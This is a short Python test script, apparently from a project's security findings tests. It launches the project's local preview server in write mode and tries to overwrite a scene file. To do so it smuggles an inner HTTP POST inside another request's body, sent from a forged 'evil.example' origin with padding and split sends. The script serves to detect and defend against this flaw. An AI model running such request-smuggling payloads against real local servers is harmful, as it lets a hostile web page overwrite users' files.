# SPDX-License-Identifier: MIT
# run in the project's root with FL naming the program: FL=build/program/src/fond-ladder python3 tests/found/smuggled_write.py
import os, tempfile
import subprocess, socket, time, re, signal
F=os.environ['FL']; SC=os.path.join(tempfile.mkdtemp(),'live2.scene.json'); P=18919
TXT=open('examples/quickstart.scene.json').read(); open(SC,'w').write(TXT)
EVIL='{"format":2,"title":"owned by a web page","root":{"kind":"row"}}'
p=subprocess.Popen([F,'preview',SC,'--write','--port',str(P)],stdout=subprocess.PIPE,stderr=open('srv2.err','wb')); print(p.stdout.readline())
def inner(v): return f'POST /scene HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\nOrigin: http://127.0.0.1:{P}\r\nX-Made-From: {v}\r\nContent-Length: {len(EVIL)}\r\n\r\n{EVIL}'
for label,split in (('split',True),('one send',False)):
  for path in ('/','/scene'):
    body=inner(1)
    if not split: body='x'*0+body
    head=f'POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\nConnection: keep-alive\r\nContent-Length: {len(body)}\r\nContent-Type: text/plain;charset=UTF-8\r\nOrigin: http://evil.example\r\n\r\n'
    if not split: body='y'*(4096-len(head))+body; head=head.replace(f'Content-Length: {len(inner(1))}',f'Content-Length: {len(body)}')
    s=socket.create_connection(('127.0.0.1',P),timeout=3)
    if split: s.sendall(head.encode()); time.sleep(.05); s.sendall(body.encode())
    else: s.sendall((head+body).encode())
    r=b''
    try:
      while True:
        x=s.recv(65536)
        if not x: break
        r+=x
    except Exception as e: r+=b'[open]'
    print(label,path,re.findall(rb'HTTP/1.1 \d+ [A-Za-z ]+',r), 'FILE OVERWRITTEN' if open(SC).read()==EVIL else 'unchanged')
    if open(SC).read()!=TXT: open(SC,'w').write(TXT); break
p.send_signal(signal.SIGINT); p.wait()
